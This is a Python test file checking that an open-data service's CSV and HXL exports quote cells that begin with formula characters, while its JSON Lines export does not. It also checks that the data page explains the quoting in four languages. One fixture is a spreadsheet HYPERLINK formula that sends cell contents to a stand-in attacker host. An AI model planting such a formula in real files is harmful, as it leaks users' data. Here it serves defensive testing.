"""The CSV downloads never hand a spreadsheet a formula (OWASP "CSV injection"): a cell that
starts with =, +, -, @, a tab or a carriage return gets a leading ' in the CSV and HXL files;
JSON Lines keeps the value as stored; the /data page says so in every language."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.public.open_data_rows import RegisterRows
from vigil.public.exports import spreadsheet_safe


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+57 312", "'+57 312"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),  # only the first character counts
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
        ("Minera Andina S.A.", "Minera Andina S.A."),
    ],
)
def test_a_formula_start_gets_a_quote(value: str, expected: str) -> None:
    assert spreadsheet_safe(value) == expected


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _cells(text: str, skip: int) -> dict[str, str]:
    rows = list(csv.reader(io.StringIO(text)))
    return dict(zip(rows[0], rows[skip], strict=True))


def test_the_csv_and_hxl_quote_formula_cells_and_jsonl_does_not(session, vault, client) -> None:  # type: ignore[no-untyped-def]
    rows = RegisterRows(session, vault)
    rows.add(code="formula1", summary=FORMULA, companies=((7, "@Acme"),), place="-Cauca")
    session.commit()
    for url, data_row in (("/data/incidents.csv", 1), ("/data/incidents-hxl.csv", 2)):
        cells = _cells(client.get(url).text, data_row)
        assert cells["summary"] == "'" + FORMULA, url
        assert cells["companies"] == "'@Acme" and cells["place"] == "'-Cauca", url
        assert cells["code"] == "formula1" and cells["country"] == "CO", url
    (line,) = client.get("/data/incidents.jsonl").text.splitlines()
    assert json.loads(line)["summary"] == FORMULA
    assert json.loads(line)["companies"] == ["@Acme"]


@pytest.mark.parametrize(
    ("language", "phrase"),
    [
        ("en", "starts with a single quote"),
        ("es", "comienza con un apóstrofo"),
        ("fr", "commence par une apostrophe"),
        ("pt", "começa com um apóstrofo"),
    ],
)
def test_the_data_page_explains_the_quote(client, language: str, phrase: str) -> None:  # type: ignore[no-untyped-def]
    page = client.get("/data", headers={"Accept-Language": language})
    assert phrase in page.text.replace("&#39;", "'")
